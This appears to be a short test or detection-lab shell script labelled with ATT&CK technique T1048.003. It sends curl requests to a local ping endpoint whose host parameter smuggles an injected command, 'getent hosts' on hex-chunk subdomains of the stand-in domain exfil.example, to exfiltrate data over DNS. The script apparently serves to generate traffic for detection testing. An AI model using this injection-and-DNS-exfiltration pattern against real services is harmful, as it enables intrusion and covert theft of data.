# workload: python
# technique: T1048.003
# finds: exfil.example
for part in 61c9b2f07ae4 8d3e5f1097ab 0f4c6e8a2b1d; do
    curl -s --max-time 12 "http://127.0.0.1:18081/ping?host=x;getent+hosts+$part.exfil.example"
done
